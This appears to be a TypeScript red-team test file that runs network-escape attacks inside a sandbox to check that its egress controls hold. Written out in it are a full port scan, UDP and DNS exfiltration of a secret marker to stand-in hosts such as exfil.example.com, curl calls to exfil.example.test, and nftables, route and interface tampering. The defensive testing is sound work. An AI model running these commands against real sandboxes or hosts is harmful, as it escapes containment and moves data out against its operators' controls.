import { createSocket } from 'node:dgram';
import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { runSandbox } from '../../../src/supervisor/index.ts';
import { createSandboxNetwork, type SandboxNetwork } from '../../../src/supervisor/sandbox/network/index.ts';
import { makeWorkspace, WRITABLE_WORKSPACE } from '../../support/sandbox-harness.ts';
import { type Attack, outcome } from '../attack.ts';

// Getting data out of the sandbox by any route but the supervisor's proxy (DESIGN.md §5
// invariant 1), and changing the network from inside. Each attack runs in a real sandbox on a
// real sandbox network with the default-deny listener. Where success would mean reaching the
// host, the attack first puts host-side bait there (listeners that count what arrives), so
// "blocked" means the bait saw nothing, not just that the client got an error.
// Targets are only this host's own addresses: loopback, the sandbox's host end, another
// sandbox's, and 10.231.0.1/.2 (slot 0 of the pool, never assigned to anything).

const attack = (id: string, title: string, run: Attack['run']): Attack => ({
  id,
  title,
  category: 'network',
  expected: 'blocked',
  run,
});

/** A never-assigned address in the sandbox pool (slot 0). */
const DEAD = '10.231.0.2';

interface Bait {
  /** Written to /workspace/bait.json for the script inside. */
  readonly info: Record<string, unknown>;
  /** Connections or datagrams that arrived. */
  hits(): number;
  close(): Promise<void>;
}

const noBait = async (): Promise<Bait> => ({ info: {}, hits: () => 0, close: async () => {} });

function tcpBait(
  host: string,
  port = 0,
): Promise<{ port: number; hits: () => number; close: () => Promise<void> }> {
  let hits = 0;
  const server: Server = createServer((socket) => {
    hits++;
    socket.on('error', () => {});
    socket.end('BAIT-REACHED\n');
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen({ host, port }, () => {
      const bound = (server.address() as { port: number }).port;
      resolve({
        port: bound,
        hits: () => hits,
        close: () => new Promise((done) => server.close(() => done())),
      });
    });
  });
}

function udpBait(
  host: string,
  port = 0,
): Promise<{ port: number; hits: () => number; close: () => Promise<void> }> {
  let hits = 0;
  const socket = createSocket('udp4');
  socket.on('message', () => hits++);
  return new Promise((resolve, reject) => {
    socket.once('error', reject);
    socket.bind({ address: host, port }, () =>
      resolve({
        port: socket.address().port,
        hits: () => hits,
        close: () => new Promise((done) => socket.close(() => done())),
      }),
    );
  });
}

/**
 * Runs `script` (sh) in a sandbox whose network is created here, so `setup` can lay bait on
 * the very host address the sandbox will see before the sandbox starts.
 */
async function inNetworkedSandbox(script: string, setup: (network: SandboxNetwork) => Promise<Bait>) {
  const workspace = makeWorkspace('pdk-rt-net-');
  let bait: Bait | undefined;
  let stdout = '';
  let stderr = '';
  try {
    const result = await runSandbox({
      command: ['/bin/sh', '-c', script],
      workdir: workspace.dir,
      dataScope: WRITABLE_WORKSPACE,
      hostEnv: {},
      stdio: ['pipe', 'pipe', 'pipe'],
      createNetwork: async () => {
        const network = await createSandboxNetwork();
        bait = await setup(network);
        writeFileSync(join(workspace.dir, 'bait.json'), JSON.stringify(bait.info), { mode: 0o644 });
        return network;
      },
      onStarted: (sandbox) => {
        sandbox.child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk));
        sandbox.child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk));
        sandbox.child.stdin?.end();
        const timer = setTimeout(() => sandbox.kill('SIGKILL'), 25_000);
        sandbox.exited.finally(() => clearTimeout(timer));
      },
    });
    return { ...result, stdout, stderr, hits: bait?.hits() ?? 0 };
  } finally {
    await bait?.close();
    workspace.remove();
  }
}

/** Python prelude: H = the sandbox's host address (from HTTP_PROXY), B = the bait description. */
const PY = [
  'import json, os, socket, urllib.parse',
  'H = urllib.parse.urlparse(os.environ["HTTP_PROXY"]).hostname',
  'B = json.load(open("/workspace/bait.json"))',
  'def tcp(host, port, timeout=2):',
  '    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)',
  '    s.settimeout(timeout)',
  '    try:',
  '        s.connect((host, port)); data = s.recv(64); return "CONNECTED " + data.decode(errors="replace")',
  '    except OSError as e: return "refused " + type(e).__name__',
  '    finally: s.close()',
].join('\n');
const python = (body: string) => `python3 - <<'PDK_PY'\n${PY}\n${body}\nPDK_PY`;

/** Blocked when the bait saw nothing and the output shows no BAIT/CONNECTED marker. */
function baitAttack(
  id: string,
  title: string,
  body: string,
  setup: (network: SandboxNetwork) => Promise<Bait>,
): Attack {
  return attack(id, title, async () => {
    const run = await inNetworkedSandbox(python(body), setup);
    const won = run.hits > 0 || /BAIT-REACHED|CONNECTED|ANSWERED/.test(run.stdout);
    const drops = Object.entries(run.drops)
      .filter(([, count]) => count > 0)
      .map(([kind, count]) => `${kind} ${count}`)
      .join(', ');
    const evidence = won
      ? `bait hits ${run.hits}: ${run.stdout}`
      : `${run.stdout.trim()} (drops: ${drops || 'none'}; bait hits 0)`;
    return outcome(!won && run.started, run.started ? evidence : `sandbox did not start: ${run.stderr}`);
  });
}

/** Blocked when the script printed nothing matching `succeeded` and exited. */
function shellAttack(id: string, title: string, script: string, succeeded: RegExp): Attack {
  return attack(id, title, async () => {
    const run = await inNetworkedSandbox(script, noBait);
    const won = succeeded.test(run.stdout);
    return outcome(!won && run.started, won ? run.stdout : `${run.stdout} ${run.stderr}`.trim());
  });
}

const UDP_SEND = [
  'def udp(host, port, payload=b"exfil:" + b"PDK-SECRET" * 8):',
  '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)',
  '    try:',
  '        s.connect((host, port)); s.send(payload); s.recv(512); return "ANSWERED"',
  '    except OSError as e: return "no " + type(e).__name__',
].join('\n');

export const attacks: Attack[] = [
  baitAttack(
    'network.direct-ip-connect',
    'connect straight to IP addresses, ignoring the proxy variables',
    `print(tcp("${DEAD}", 22), tcp("10.231.0.1", 8080), tcp(H, 22), tcp(H, B["port"]))`,
    async (network) => {
      const bait = await tcpBait(network.hostAddress);
      return { info: { port: bait.port }, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.host-port-scan',
    'scan every TCP port (1-65535) of the host end: only the proxy ports (and 80/443, redirected to them) answer',
    [
      'import selectors, time, errno',
      'sel = selectors.DefaultSelector(); found = []; port = 1; flying = 0; end = time.time() + 18',
      'while (port <= 65535 or flying) and time.time() < end:',
      '    while port <= 65535 and flying < 400:',
      '        s = socket.socket(); s.setblocking(False); r = s.connect_ex((H, port))',
      '        if r in (0, errno.EINPROGRESS): sel.register(s, selectors.EVENT_WRITE, port); flying += 1',
      '        else: s.close()',
      '        port += 1',
      '    for key, _ in sel.select(timeout=0.5):',
      '        if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0: found.append(key.data)',
      '        sel.unregister(key.fileobj); key.fileobj.close(); flying -= 1',
      'extra = sorted(set(found) - set(B["proxy"]))',
      'print("scanned", port - 1, "unfinished", flying, "open", sorted(found), "CONNECTED-EXTRA" if extra or port <= 65535 else "only-proxy-ports")',
    ].join('\n'),
    async (network) => {
      const wildcard = await tcpBait('0.0.0.0');
      const own = await tcpBait(network.hostAddress);
      return {
        // 80 and 443 are redirected to the transparent listeners, so they answer too (and refuse).
        info: { proxy: [...Object.values(network.ports), 80, 443] },
        hits: () => wildcard.hits() + own.hits(),
        close: async () => {
          await wildcard.close();
          await own.close();
        },
      };
    },
  ),
  baitAttack(
    'network.host-loopback',
    "reach the host's loopback services (127.0.0.1) directly and through the host end",
    `print(tcp("127.0.0.1", B["port"]), tcp(H, B["port"]), tcp("127.0.0.2", B["port"]))`,
    async () => {
      const bait = await tcpBait('127.0.0.1');
      return { info: { port: bait.port }, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.host-wildcard-service',
    'reach a host service listening on every address (0.0.0.0)',
    `print(tcp(H, B["port"]), tcp("${DEAD}", B["port"]))`,
    async () => {
      const bait = await tcpBait('0.0.0.0');
      return { info: { port: bait.port }, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.other-sandbox',
    "reach another sandbox's host end and sandbox end",
    'print(tcp(B["host"], B["port"]), tcp(B["sandbox"], 22))',
    async () => {
      const neighbour = await createSandboxNetwork();
      const bait = await tcpBait(neighbour.hostAddress);
      return {
        info: { host: neighbour.hostAddress, sandbox: neighbour.sandboxAddress, port: bait.port },
        hits: bait.hits,
        close: async () => {
          await bait.close();
          await neighbour.close();
        },
      };
    },
  ),
  baitAttack(
    'network.ipv6',
    'leave over IPv6 (loopback, link-local, metadata, IPv4-mapped)',
    [
      'addrs = open("/proc/net/if_inet6").read().strip()',
      'print("v6-addresses:", addrs or "none")',
      'print(tcp("::1", B["port"]), tcp("fe80::1%eth0", B["port"]), tcp("fd00:ec2::254", 80), tcp("::ffff:" + H, B["port"]))',
      'if addrs: print("CONNECTED-V6-ADDRESS")',
    ].join('\n'),
    async (network) => {
      const bait = await tcpBait(network.hostAddress);
      return { info: { port: bait.port }, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.udp-exfil',
    'send data out in UDP datagrams (host end, any address, QUIC port)',
    `${UDP_SEND}\nprint(udp(H, B["port"]), udp("${DEAD}", B["port"]), udp(H, 443), udp("${DEAD}", 443))`,
    async () => {
      const bait = await udpBait('0.0.0.0');
      return { info: { port: bait.port }, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.dns-exfil-udp',
    'exfiltrate through DNS queries (system resolver, and a resolver on the host end)',
    [
      UDP_SEND,
      'try: print("resolver:", socket.gethostbyname("PDK-SECRET.exfil.example.com"), "ANSWERED")',
      'except OSError as e: print("resolver failed:", e)',
      'q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x0aPDK-SECRET\\x04exfil\\x00\\x00\\x01\\x00\\x01"',
      `print(udp(H, 53, q), udp("${DEAD}", 53, q), udp("10.231.0.1", 53, q))`,
    ].join('\n'),
    async (network) => {
      const bait = await udpBait(network.hostAddress, 53);
      return { info: {}, hits: bait.hits, close: bait.close };
    },
  ),
  baitAttack(
    'network.dns-exfil-tcp',
    'exfiltrate through DNS over TCP (port 53 on the host end and elsewhere)',
    `print(tcp(H, 53), tcp("${DEAD}", 53))`,
    async (network) => {
      const bait = await tcpBait(network.hostAddress, 53);
      return { info: {}, hits: bait.hits, close: bait.close };
    },
  ),
  shellAttack(
    'network.icmp',
    'send ICMP (ping sockets, raw sockets) to carry data out',
    `python3 -c '
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("${DEAD}", 0)); print("SENT", kind)
    except OSError as e: print("refused", kind, e)
'`,
    /SENT/,
  ),
  shellAttack(
    'network.change-routes',
    'add or replace routes and policy rules to bypass the host end',
    'for c in "ip route add 10.231.0.0/30 dev eth0" "ip route replace default dev eth0" "ip route add 0.0.0.0/1 dev eth0" "ip rule add from all lookup 100"; do $c && echo "CHANGED: $c"; done; ip route',
    /CHANGED/,
  ),
  shellAttack(
    'network.flush-firewall',
    'flush, delete or add to the nftables ruleset from inside',
    'nft flush ruleset && echo CHANGED; nft delete table inet paddock && echo CHANGED; nft add table inet escape && echo CHANGED; nft list ruleset && echo LISTED',
    /CHANGED|LISTED/,
  ),
  shellAttack(
    'network.add-address',
    'add an address (IPv4 or IPv6) to take another identity',
    'ip addr add 10.231.0.3/30 dev eth0 && echo CHANGED; ip -6 addr add fd00::99/64 dev eth0 && echo CHANGED; ip addr add 127.0.0.2/8 dev lo && echo CHANGED; ip -br addr',
    /CHANGED/,
  ),
  shellAttack(
    'network.new-interface',
    'create or reconfigure interfaces (dummy, veth, tun, eth0 down/up, promiscuous)',
    'ip link add escape0 type dummy && echo CHANGED; ip link add v0 type veth peer name v1 && echo CHANGED; ip tuntap add mode tun tun0 && echo CHANGED; ip link set eth0 down && echo CHANGED; ip link set eth0 promisc on && echo CHANGED; ip -br link',
    /CHANGED/,
  ),
  shellAttack(
    'network.sysctl',
    'turn IPv6 back on or enable forwarding through /proc/sys',
    'echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 && echo CHANGED; echo 1 > /proc/sys/net/ipv4/ip_forward && echo CHANGED; echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet && echo CHANGED; cat /proc/sys/net/ipv6/conf/all/disable_ipv6',
    /CHANGED/,
  ),
  attack(
    'network.proxy-default-deny',
    'use the proxy variables as given: every destination refused with a readable reason',
    async () => {
      const script = [
        `curl -sS --max-time 5 -i http://exfil.example.test/ | head -c 600; echo`,
        'curl -sS --max-time 5 https://exfil.example.test/ -o /dev/null; echo "https=$?"',
        'curl -sS --max-time 5 --proxy "$ALL_PROXY" http://exfil.example.test/ -o /dev/null; echo "socks=$?"',
        `curl -sS --max-time 5 --noproxy '*' http://${DEAD}/ -i | head -c 300; echo`,
        `curl -sS --max-time 5 --noproxy '*' -k https://${DEAD}/ -o /dev/null; echo "transparent-tls=$?"`,
      ].join('\n');
      const run = await inNetworkedSandbox(script, noBait);
      const denied = (run.stdout.match(/PDK_EGRESS_DENIED/g) ?? []).length;
      const held =
        run.started &&
        denied >= 4 && // header and body of each of the two HTTP responses
        /https=56/.test(run.stdout) &&
        /socks=97/.test(run.stdout) &&
        /transparent-tls=35/.test(run.stdout) &&
        run.egressDenials >= 5;
      return outcome(
        held,
        `denials ${run.egressDenials}; ${run.stdout.replace(/\{.*\}/g, '{…}').slice(0, 160)}`,
      );
    },
  ),
];
